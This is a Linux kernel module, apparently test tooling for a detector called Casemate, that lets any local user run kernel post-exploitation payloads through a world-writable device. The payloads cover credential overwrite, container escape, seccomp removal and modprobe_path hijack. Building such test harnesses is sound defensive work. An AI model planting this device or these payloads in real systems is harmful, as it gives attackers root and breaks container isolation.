// SPDX-License-Identifier: GPL-2.0
/*
 * What published exploits do once they run in the kernel, on request, for the test of Casemate.
 *
 * FOR TEST MACHINES ONLY. The module exploits nothing and has no vulnerability to be exploited: who may load it is root
 * already, and loading it is the test. It gives whoever can open /dev/casemate_payload the kernel's own powers, which is
 * its whole purpose, and it spoils reference counts as the originals do. Never load it on a machine that you need.
 *
 * Functions and variables that the kernel does not export are passed as addresses, read from /proc/kallsyms.
 */
#include <linux/cred.h>
#include <linux/fs_struct.h>
#include <linux/kdebug.h>
#include <linux/miscdevice.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/nsproxy.h>
#include <linux/pid_namespace.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/slab.h>
#include <linux/task_work.h>
#include <linux/uaccess.h>
#include <linux/version.h>
#include <linux/workqueue.h>
#include <net/net_namespace.h>

#include "casemate_payload.h"

#define ADDRESS(name)                    \
	static unsigned long name##_at; \
	module_param_named(name, name##_at, ulong, 0400)

ADDRESS(switch_task_namespaces);
ADDRESS(init_nsproxy);
ADDRESS(copy_fs_struct);
ADDRESS(set_fs_root);
ADDRESS(set_fs_pwd);
ADDRESS(task_work_add);
ADDRESS(core_pattern);
ADDRESS(modprobe_path);

#define TEXT_SIZE sizeof(((struct casemate_payload *)NULL)->text)
#define WORKER_DELAY_MS 300

/* One payload on its way to a task. */
struct order {
	unsigned int effect;
	struct task_struct *task;
	char text[TEXT_SIZE];
	struct callback_head task_work;
	struct delayed_work worker;
};

/* The order that the next breakpoint of its task carries out. */
static struct order *armed;

static struct nsproxy *host_namespaces(void)
{
	struct nsproxy *host = (struct nsproxy *)init_nsproxy_at;

	get_nsproxy(host);
	return host;
}

static struct task_struct *host_init(void)
{
	return pid_task(find_pid_ns(1, &init_pid_ns), PIDTYPE_PID);
}

static int take_creds(void)
{
	struct cred *root = prepare_kernel_cred(&init_task);

	return root ? commit_creds(root) : -ENOMEM;
}

static void switch_ns(struct task_struct *task)
{
	((void (*)(struct task_struct *, struct nsproxy *))switch_task_namespaces_at)(task, host_namespaces());
}

static int take_fs(void)
{
	struct fs_struct *copy = ((struct fs_struct * (*)(struct fs_struct *)) copy_fs_struct_at)(host_init()->fs);

	if (!copy)
		return -ENOMEM;
	task_lock(current);
	current->fs = copy;
	task_unlock(current);
	return 0;
}

static void take_root(struct task_struct *task)
{
	void (*set_root)(struct fs_struct *, const struct path *) = (void *)set_fs_root_at;
	void (*set_pwd)(struct fs_struct *, const struct path *) = (void *)set_fs_pwd_at;
	struct path root;

	get_fs_root(host_init()->fs, &root);
	set_root(task->fs, &root);
	set_pwd(task->fs, &root);
	path_put(&root);
}

static void store_cred(struct task_struct *task)
{
	const struct cred *root = init_task.cred;

	get_cred(root);
	get_cred(root);
	rcu_assign_pointer(task->real_cred, root);
	rcu_assign_pointer(task->cred, root);
}

static void store_caps(struct cred *cred)
{
	cred->cap_permitted = CAP_FULL_SET;
	cred->cap_effective = CAP_FULL_SET;
	cred->cap_bset = CAP_FULL_SET;
}

static void store_ids(struct cred *cred)
{
	cred->uid = cred->suid = cred->euid = cred->fsuid = GLOBAL_ROOT_UID;
	cred->gid = cred->sgid = cred->egid = cred->fsgid = GLOBAL_ROOT_GID;
}

static void clear_flag(struct task_struct *task)
{
#if LINUX_VERSION_CODE >= KERNEL_VERSION(5, 11, 0)
	clear_task_syscall_work(task, SECCOMP);
#else
	clear_tsk_thread_flag(task, TIF_SECCOMP);
#endif
}

static void clear_seccomp(struct task_struct *task)
{
	task->seccomp.mode = 0;
	task->seccomp.filter = NULL;
	atomic_set(&task->seccomp.filter_count, 0);
	clear_flag(task);
}

/* What needs to run as the task itself. */
static int as_caller(struct order *order)
{
	int failed;

	if (order->task != current)
		return -EINVAL;
	failed = take_creds();
	if (failed || order->effect == CASEMATE_COMMIT_CREDS)
		return failed;
	if (order->effect == CASEMATE_CREDS_INIT_NS) {
		switch_ns(pid_task(find_vpid(1), PIDTYPE_PID));
		return 0;
	}
	switch_ns(current);
	return take_fs();
}

static int carry_out(struct order *order)
{
	struct task_struct *task = order->task;

	switch (order->effect) {
	case CASEMATE_COMMIT_CREDS:
	case CASEMATE_CREDS_NS_FS:
	case CASEMATE_CREDS_INIT_NS:
		return as_caller(order);
	case CASEMATE_STORE_CRED:
		store_cred(task);
		return 0;
	case CASEMATE_STORE_CAPS:
		store_caps((struct cred *)task->cred);
		return 0;
	case CASEMATE_STORE_IDS:
		store_ids((struct cred *)task->cred);
		return 0;
	case CASEMATE_SWITCH_NS:
		switch_ns(task);
		return 0;
	case CASEMATE_STORE_NSPROXY:
		task->nsproxy = host_namespaces();
		return 0;
	case CASEMATE_STORE_NS:
		task->nsproxy->net_ns = get_net(&init_net);
		return 0;
	case CASEMATE_SET_ROOT:
		take_root(task);
		return 0;
	case CASEMATE_CLEAR_SECCOMP:
		clear_seccomp(task);
		return 0;
	case CASEMATE_CLEAR_FLAG:
		clear_flag(task);
		return 0;
	case CASEMATE_CLEAR_NNP:
		clear_bit(PFA_NO_NEW_PRIVS, &task->atomic_flags);
		return 0;
	case CASEMATE_CORE_PATTERN:
		strscpy((char *)core_pattern_at, order->text, TEXT_SIZE);
		return 0;
	case CASEMATE_MODPROBE_PATH:
		strscpy((char *)modprobe_path_at, order->text, TEXT_SIZE);
		return 0;
	default:
		return -ENOTTY;
	}
}

static int finish(struct order *order)
{
	int failed = carry_out(order);

	put_task_struct(order->task);
	kfree(order);
	return failed;
}

static void in_task_work(struct callback_head *head)
{
	finish(container_of(head, struct order, task_work));
}

static void in_worker(struct work_struct *work)
{
	finish(container_of(to_delayed_work(work), struct order, worker));
}

static int in_breakpoint(struct notifier_block *block, unsigned long event, void *data)
{
	struct order *order = armed;

	if (event != DIE_INT3 || !order || order->task != current || !user_mode(((struct die_args *)data)->regs))
		return NOTIFY_DONE;
	/* The order stays allocated: nothing may be freed here. */
	armed = NULL;
	carry_out(order);
	return NOTIFY_STOP;
}

static vm_fault_t in_fault(struct vm_fault *fault)
{
	struct order *order = fault->vma->vm_private_data;

	fault->page = alloc_page(GFP_KERNEL | __GFP_ZERO);
	if (!fault->page)
		return VM_FAULT_OOM;
	if (order) {
		fault->vma->vm_private_data = NULL;
		finish(order);
	}
	return 0;
}

static const struct vm_operations_struct mapping = { .fault = in_fault };

static int payload_mmap(struct file *file, struct vm_area_struct *vma)
{
	vma->vm_private_data = file->private_data;
	file->private_data = NULL;
	vma->vm_ops = &mapping;
	return 0;
}

static struct order *take_order(unsigned int effect, const struct casemate_payload *asked)
{
	struct order *order = kzalloc(sizeof(*order), GFP_KERNEL);
	struct task_struct *task = current;

	if (!order)
		return NULL;
	rcu_read_lock();
	if (asked->pid)
		task = pid_task(find_vpid(asked->pid), PIDTYPE_PID);
	if (task)
		get_task_struct(task);
	rcu_read_unlock();
	if (!task) {
		kfree(order);
		return NULL;
	}
	order->effect = effect;
	order->task = task;
	memcpy(order->text, asked->text, TEXT_SIZE);
	order->text[TEXT_SIZE - 1] = 0;
	return order;
}

static long payload_ioctl(struct file *file, unsigned int effect, unsigned long argument)
{
	int (*add_work)(struct task_struct *, struct callback_head *, int) = (void *)task_work_add_at;
	struct casemate_payload asked;
	struct order *order;

	if (effect == CASEMATE_HOST_PID)
		return task_tgid_nr(current);
	if (copy_from_user(&asked, (void __user *)argument, sizeof(asked)))
		return -EFAULT;
	order = take_order(effect, &asked);
	if (!order)
		return -ESRCH;
	switch (asked.vehicle) {
	case CASEMATE_CALL:
		return finish(order);
	case CASEMATE_FAULT:
		file->private_data = order;
		return 0;
	case CASEMATE_WORK:
		init_task_work(&order->task_work, in_task_work);
		return add_work(current, &order->task_work, TWA_RESUME);
	case CASEMATE_INT3:
		armed = order;
		return 0;
	case CASEMATE_WORKER:
		INIT_DELAYED_WORK(&order->worker, in_worker);
		schedule_delayed_work(&order->worker, msecs_to_jiffies(WORKER_DELAY_MS));
		return 0;
	default:
		put_task_struct(order->task);
		kfree(order);
		return -EINVAL;
	}
}

static int payload_open(struct inode *inode, struct file *file)
{
	/* misc_open() leaves the device here; from now on it is the order of a mapping to come. */
	file->private_data = NULL;
	return 0;
}

static const struct file_operations operations = {
	.owner = THIS_MODULE,
	.open = payload_open,
	.unlocked_ioctl = payload_ioctl,
	.mmap = payload_mmap,
};

static struct miscdevice device = {
	.minor = MISC_DYNAMIC_MINOR,
	.name = "casemate_payload",
	.fops = &operations,
	.mode = 0666,
};

static struct notifier_block breakpoints = { .notifier_call = in_breakpoint };

static int __init payload_init(void)
{
	int failed;

	if (!switch_task_namespaces_at || !init_nsproxy_at || !copy_fs_struct_at || !set_fs_root_at || !set_fs_pwd_at ||
	    !task_work_add_at || !core_pattern_at || !modprobe_path_at)
		return -EINVAL;
	failed = register_die_notifier(&breakpoints);
	if (failed)
		return failed;
	failed = misc_register(&device);
	if (failed)
		unregister_die_notifier(&breakpoints);
	else
		pr_warn("casemate_payload: this machine is now open to everybody, for a test\n");
	return failed;
}

static void __exit payload_exit(void)
{
	misc_deregister(&device);
	unregister_die_notifier(&breakpoints);
}

module_init(payload_init);
module_exit(payload_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Test payloads of Casemate; for test machines only");
